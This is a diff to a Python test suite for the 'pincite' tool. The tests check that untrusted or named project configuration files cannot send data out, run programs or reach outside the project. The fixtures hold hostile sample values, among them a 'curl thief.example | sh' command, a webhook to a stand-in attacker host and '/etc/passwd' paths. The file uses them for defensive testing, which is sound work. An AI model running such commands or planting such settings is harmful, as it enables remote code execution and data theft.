@@ -1,4 +1,4 @@
-"""What a configuration file that was merely found may say, before and after it was trusted."""
+"""What a project's configuration file may say, found or named, before and after it was trusted."""
 
 from __future__ import annotations
 
@@ -7,7 +7,8 @@ import os
 import re
 import stat
 import threading
-from collections.abc import Mapping
+from collections.abc import Callable, Iterator, Mapping
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -15,7 +16,7 @@ import pytest
 from msgspec import inspect
 
 from pincite.config import Settings, defaults, load_settings, settings_from
-from pincite.config.load import find_settings
+from pincite.config.load import find_settings, review_settings
 from pincite.config.places import project_root, upwards, user_folder
 from pincite.config.settings import Reach
 from pincite.config.trust import distrust, reach_of, records, trust
@@ -31,6 +32,40 @@ webhook = "https://thief.example/hook"
 command = ["sh", "-c", "curl thief.example | sh"]
 """
 KEYS = "alerts.command, alerts.webhook, llm.base_url"
+
+
+REACHING = [
+    ("llm.base_url = 'http://127.0.0.1:9'", "llm.base_url"),
+    ("alerts.webhook = 'http://127.0.0.1:9'", "alerts.webhook"),
+    ("alerts.webhook = ''", "alerts.webhook"),
+    ("alerts.command = ['true']", "alerts.command"),
+    ("judge = 'llm:gpt'", "judge"),
+    ("judge = 'llm'", "judge"),
+    ("judge = 'nli:./model'", "judge"),
+    ("judge = 'panel:cascade:rules,llm:gpt'", "judge"),
+    ("online = true", "online"),
+    ("store.url = 'postgresql://thief.example/runs'", "store.url"),
+    ("store.url = '/etc/passwd'", "store.url"),
+    ("store.url = 'sqlite:////etc/passwd'", "store.url"),
+    ("store.url = '~/runs.sqlite'", "store.url"),
+    ("sources = ['docs', '../other']", "sources"),
+    ("sources = ['/etc']", "sources"),
+    ("baseline = '../known.json'", "baseline"),
+    ("calibration = '/tmp/calibration.json'", "calibration"),
+    ("llm.prices = '../prices.toml'", "llm.prices"),
+    ("cache.folder = '/tmp'", "cache.folder"),
+]
+HARMLESS = [
+    "judge = 'rules'",
+    "judge = 'panel:mean:rules,entailment'",
+    "fail_under = 0.9",
+    "sources = ['docs', 'deep/../notes']",
+    "baseline = 'known.json'",
+    "cache.folder = '.cache'",
+    "llm.model = 'some/model'",
+    "llm.max_cost = 2.0",
+    "evaluation.metrics = ['hit@1']",
+]
 
 
 class Project:
@@ -52,11 +87,14 @@ class Project:
     def file(self) -> Path:
         return self.root / "pincite.toml"
 
-    def load(self, config: Path | None = None, folder: Path | None = None, **flags: Any) -> Settings:
+    def load(
+        self, config: Path | None = None, folder: Path | None = None, trust: bool = False, **flags: Any
+    ) -> Settings:
+        """As the command line does: naming a file is no trust."""
         self.told.clear()
         place = folder or self.root
         return load_settings(
-            config, folder=place, environment=self.environment, tell=self.told.append, **flags
+            config, folder=place, environment=self.environment, tell=self.told.append, trust=trust, **flags
         )
 
     def trust(self, folder: Path | None = None) -> None:
@@ -107,30 +145,7 @@ def test_a_text_setting_without_a_decision_would_be_noticed() -> None:
     assert not any(holds_text(path) for path in ("offsets", "strict", "fail_under", "llm.max_cost"))
 
 
-@pytest.mark.parametrize(
-    ("text", "key"),
-    [
-        ("llm.base_url = 'http://127.0.0.1:9'", "llm.base_url"),
-        ("alerts.webhook = 'http://127.0.0.1:9'", "alerts.webhook"),
-        ("alerts.webhook = ''", "alerts.webhook"),
-        ("alerts.command = ['true']", "alerts.command"),
-        ("judge = 'llm:gpt'", "judge"),
-        ("judge = 'llm'", "judge"),
-        ("judge = 'nli:./model'", "judge"),
-        ("judge = 'panel:cascade:rules,llm:gpt'", "judge"),
-        ("online = true", "online"),
-        ("store.url = 'postgresql://thief.example/runs'", "store.url"),
-        ("store.url = '/etc/passwd'", "store.url"),
-        ("store.url = 'sqlite:////etc/passwd'", "store.url"),
-        ("store.url = '~/runs.sqlite'", "store.url"),
-        ("sources = ['docs', '../other']", "sources"),
-        ("sources = ['/etc']", "sources"),
-        ("baseline = '../known.json'", "baseline"),
-        ("calibration = '/tmp/calibration.json'", "calibration"),
-        ("llm.prices = '../prices.toml'", "llm.prices"),
-        ("cache.folder = '/tmp'", "cache.folder"),
-    ],
-)
+@pytest.mark.parametrize(("text", "key"), REACHING)
 def test_what_reaches_beyond_the_project_is_ignored_in_an_untrusted_file(
     project: Project, text: str, key: str
 ) -> None:
@@ -139,20 +154,7 @@ def test_what_reaches_beyond_the_project_is_ignored_in_an_untrusted_file(
     assert f"so these settings are ignored: {key};" in project.told[0]
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "judge = 'rules'",
-        "judge = 'panel:mean:rules,entailment'",
-        "fail_under = 0.9",
-        "sources = ['docs', 'deep/../notes']",
-        "baseline = 'known.json'",
-        "cache.folder = '.cache'",
-        "llm.model = 'some/model'",
-        "llm.max_cost = 2.0",
-        "evaluation.metrics = ['hit@1']",
-    ],
-)
+@pytest.mark.parametrize("text", HARMLESS)
 def test_what_stays_in_the_project_counts_from_any_file(project: Project, text: str) -> None:
     project.file.write_text(f"{text}\n")
     assert project.load() != Settings()
@@ -192,7 +194,7 @@ def test_a_found_file_cannot_send_a_key_or_run_a_program_and_its_other_settings_
     (line,) = project.told
     assert line == (
         f"{project.file} is not trusted, so these settings are ignored: {KEYS}; "
-        "`pincite trust` shows and allows them, or name the file with --config"
+        "`pincite trust` shows and allows them, or give --trust-config (PINCITE_TRUST_CONFIG=1)"
     )
 
 
@@ -204,13 +206,109 @@ def test_the_same_holds_for_the_table_in_pyproject_and_the_specifications_names(
     assert "pyproject.toml is not trusted, so these settings are ignored: llm.base_url;" in project.told[0]
 
 
-def test_a_file_that_somebody_names_needs_no_trust(project: Project) -> None:
+def named_in_each_way(project: Project, path: Path) -> Iterator[Callable[..., Settings]]:
+    """By `--config` and by the variable."""
+    yield partial(project.load, path)
+    environment = {**project.environment, "PINCITE_CONFIG": str(path)}
+    yield partial(load_settings, folder=project.root, environment=environment)
+
+
+@pytest.mark.parametrize("name", ["pincite.toml", "deep/other.toml", "ci.yaml", "--config=x.md"])
+@pytest.mark.parametrize("folder", [".", "deep/down"])
+def test_a_file_of_the_project_that_is_named_is_refused_until_it_is_trusted(
+    project: Project, name: str, folder: str
+) -> None:
+    path = project.root / name
+    path.write_text("judge: llm:gpt\n" if path.suffix != ".toml" else "judge = 'llm:gpt'\n")
+    for load in named_in_each_way(project, path):
+        with pytest.raises(ConfigError) as refused:
+            load(folder=project.root / folder)
+        assert str(refused.value) == (
+            f"{path} is inside the project and is not trusted, so it may not set judge; "
+            f"`pincite trust {path}` shows and allows them, or give --trust-config (PINCITE_TRUST_CONFIG=1)"
+        )
+    trust(review_settings(path, project.environment), project.environment)
+    for load in named_in_each_way(project, path):
+        assert load(folder=project.root / folder).judge == "llm:gpt"
+    path.write_text(path.read_text().replace("gpt", "other"))
+    with pytest.raises(ConfigError, match="has changed since it was trusted, so it may not set judge"):
+        project.load(path)
+
+
+@pytest.mark.parametrize(("text", "key"), REACHING)
+def test_what_reaches_beyond_the_project_is_refused_in_a_file_that_is_named(
+    project: Project, text: str, key: str
+) -> None:
+    project.file.write_text(f"{text}\n")
+    for load in named_in_each_way(project, project.file):
+        with pytest.raises(ConfigError, match=f"so it may not set {re.escape(key)};"):
+            load()
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_stays_in_the_project_counts_from_a_file_that_is_named(project: Project, text: str) -> None:
+    project.file.write_text(f"{text}\n")
+    for load in named_in_each_way(project, project.file):
+        assert load() != Settings()
+
+
+def test_the_table_in_a_pyproject_that_is_named_needs_trust_too(project: Project) -> None:
+    file = project.root / "deep" / "pyproject.toml"
+    file.write_text("[tool.pincite.alerts]\ncommand = ['true']\n")
+    with pytest.raises(ConfigError, match=r"so it may not set alerts\.command"):
+        project.load(file)
+
+
+def test_a_link_in_the_project_is_no_way_around_trust(project: Project, tmp_path: Path) -> None:
+    outside = tmp_path / "outside.toml"
+    outside.write_text(HOSTILE)
+    link = project.root / "link.toml"
+    link.symlink_to(outside)
+    with pytest.raises(ConfigError, match="is a link to a file outside the project"):
+        project.load(link)
     project.file.write_text(HOSTILE)
-    assert project.load(project.file).llm.base_url == "https://thief.example/v1"
-    environment = {**project.environment, "PINCITE_CONFIG": str(project.file)}
+    (tmp_path / "way in.toml").symlink_to(project.file)
+    with pytest.raises(ConfigError, match="is inside the project"):
+        project.load(tmp_path / "way in.toml")
+
+
+@pytest.mark.parametrize("word", ["1", "true", "yes"])
+def test_a_flag_or_a_variable_trusts_whatever_file_is_used(project: Project, word: str) -> None:
+    project.file.write_text(HOSTILE)
+    environment = {**project.environment, "PINCITE_TRUST_CONFIG": word}
     assert load_settings(folder=project.root, environment=environment).alerts.command
-    assert settings_from({"alerts": {"webhook": "https://mine.example"}}).alerts.webhook
+    environment["PINCITE_CONFIG"] = str(project.file)
+    assert load_settings(folder=project.root, environment=environment).alerts.command
+    assert project.load(trust=True).alerts.command and project.load(project.file, trust=True).alerts.command
     assert project.told == []
+
+
+@pytest.mark.parametrize("word", ["0", "no", ""])
+def test_a_variable_that_says_no_trusts_nothing(project: Project, word: str) -> None:
+    project.file.write_text(HOSTILE)
+    environment = {**project.environment, "PINCITE_TRUST_CONFIG": word}
+    assert not load_settings(folder=project.root, environment=environment).alerts.command
+    with pytest.raises(ConfigError, match="PINCITE_TRUST_CONFIG: expected true or false, found maybe"):
+        load_settings(folder=project.root, environment={"PINCITE_TRUST_CONFIG": "maybe"})
+
+
+def test_no_file_can_grant_trust(project: Project) -> None:
+    project.file.write_text("trust_config = true\n")
+    with pytest.raises(ConfigError, match="there is no setting 'trust_config'"):
+        project.load()
+
+
+def test_a_named_file_outside_the_project_needs_no_trust(project: Project, tmp_path: Path) -> None:
+    (tmp_path / "mine.toml").write_text(HOSTILE)
+    for load in named_in_each_way(project, tmp_path / "mine.toml"):
+        assert load().llm.base_url == "https://thief.example/v1"
+
+
+def test_a_file_that_a_program_names_needs_no_trust(project: Project) -> None:
+    project.file.write_text(HOSTILE)
+    named = load_settings(project.file, folder=project.root, environment=project.environment)
+    assert named.llm.base_url == "https://thief.example/v1"
+    assert settings_from({"alerts": {"webhook": "https://mine.example"}}).alerts.webhook
 
 
 def test_flags_and_variables_need_no_trust(project: Project) -> None:
@@ -228,7 +326,7 @@ def test_the_users_own_file_needs_no_trust_and_a_found_one_goes_before_it(projec
     settings = project.load()
     assert (settings.fail_under, settings.language) == (0.9, "de")
     assert settings.alerts.webhook == "https://mine.example"
-    assert project.load(project.file).language == "en", "a named file is the only one"
+    assert project.load(project.file, trust=True).language == "en", "a named file is the only one"
 
 
 def test_the_users_own_file_needs_no_trust_in_its_own_folder_either(project: Project) -> None:
